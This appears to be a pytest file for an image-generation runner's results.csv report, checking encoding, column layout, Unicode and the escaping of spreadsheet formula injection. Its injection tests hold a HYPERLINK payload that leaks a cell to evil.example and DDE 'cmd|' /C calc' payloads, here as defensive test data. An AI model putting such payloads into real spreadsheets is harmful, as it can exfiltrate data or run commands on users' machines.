"""results.csv: a row per image, BOM, CRLF, flattened matrix values, no formula injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from runner.report.results_csv import neutralise
from runner.report.writer import write_reports
from tests.report_snapshots import build_snapshot, campaign_specs, make_sources


@pytest.fixture
def table(tmp_path: Path):
    out = tmp_path / "out"
    snapshot = build_snapshot(out, make_sources(tmp_path / "src"), campaign_specs())
    raw = write_reports(snapshot, out)["results.csv"].read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return snapshot, raw, rows


def test_utf8_with_bom_and_crlf(table) -> None:
    _, raw, _ = table
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") >= 13 and b"\n" not in raw.replace(b"\r\n", b"")


def test_one_row_per_image_and_one_per_failed_job(table) -> None:
    snapshot, _, rows = table
    assert len(rows) == 13  # 12 jobs, the first with n = 2
    first = [row for row in rows if row["job_key"] == snapshot.jobs[0].key]
    assert [row["output_path"] for row in first] == ["job-000-1.webp", "job-000-2.webp"]
    assert [row["image_number"] for row in first] == ["1", "2"]
    assert first[0]["sha256"] == snapshot.jobs[0].files[0].sha256
    assert (first[0]["width"], first[0]["height"]) == ("384", "256")
    failed = [row for row in rows if row["status"] == "failed"]
    assert len(failed) == 1
    assert failed[0]["output_path"] == failed[0]["sha256"] == failed[0]["width"] == ""
    assert failed[0]["error"].startswith("The prompt was rejected by the safety system")


def test_mapping_values_become_dotted_columns(table) -> None:
    _, _, rows = table
    header = list(rows[0])
    assert header[:3] == ["job_key", "label", "status"]
    assert header[3:9] == [
        "product.sku",
        "product.name",
        "season",
        "market.code",
        "market.country",
        "market.setting",
    ]
    assert header[9:13] == ["prompt", "size", "quality", "format"]
    assert rows[2]["market.country"] == "日本" and rows[2]["market.setting"] == "京都の庭"


def test_unicode_survives(table) -> None:
    _, _, rows = table
    prompts = " ".join(row["prompt"] for row in rows)
    assert "日本語のプロンプト" in prompts and "café crème 🎉" in prompts
    assert any(row["season"] == "été 🌞" for row in rows)


def test_formula_injection_is_neutralised(table) -> None:
    _, _, rows = table
    prompts = [row["prompt"] for row in rows]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in prompts
    assert "'-2+3+cmd|' /C calc'!A0" in prompts
    assert "'+1 and a\ttab" in prompts
    assert any(row["season"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-10+20", "'-10+20"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("a = b", "a = b"),
        ("mug, 2 x", "mug, 2 x"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_a_matrix_key_named_like_a_fixed_column_is_prefixed(tmp_path: Path) -> None:
    from tests.report_snapshots import JobSpec

    specs = [JobSpec({"season": "spring", "quality": "high"}, "a mug")]
    snapshot = build_snapshot(tmp_path, make_sources(tmp_path / "src"), specs, axes=("season",))
    raw = write_reports(snapshot, tmp_path)["results.csv"].read_bytes()
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert "matrix.quality" in header and header.count("quality") == 1
